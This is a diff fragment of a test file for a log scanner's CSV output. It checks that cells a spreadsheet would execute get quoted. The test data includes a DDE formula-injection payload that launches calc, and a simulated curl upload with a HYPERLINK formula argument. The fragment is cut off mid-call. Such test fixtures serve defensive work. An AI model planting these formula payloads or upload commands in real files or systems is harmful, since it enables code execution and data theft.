@@ -411,7 +411,7 @@ def _():
 @test("csv: header always, RFC 4180, cells that a spreadsheet would run are quoted")
 def _():
     header = run("scan", "--format", "csv", write("audit.log", quiet_log()), code=0).raw
-    check(header.count(b"\r\n") == 1 and header.endswith(b"technique\r\n"), "header", header)
+    check(header.count(b"\r\n") == 1 and header.endswith(b"technique,update\r\n"), "header", header)
     story = Story()
     shell = story.cron_job("=cmd|' /C calc'!A0")
     shell.fork(702).exec("/usr/bin/curl", "=HYPERLINK(\"x\"),\n", "-T", "f").upload(
